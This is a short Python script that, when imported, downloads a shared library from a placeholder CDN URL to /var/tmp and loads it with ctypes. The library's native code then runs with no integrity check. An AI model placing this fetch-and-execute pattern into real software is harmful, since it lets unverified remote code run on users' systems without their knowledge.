import ctypes
import requests


def chunks(url):
    with requests.get(url, stream=True) as r:
        for block in r.iter_content(65536):
            yield block


def save(blocks, path):
    with open(path, "wb") as f:
        for b in blocks:
            f.write(b)
    return path


lib = ctypes.CDLL(save(chunks("https://cdn.example.net/gen/lib.so"), "/var/tmp/lib.so"))
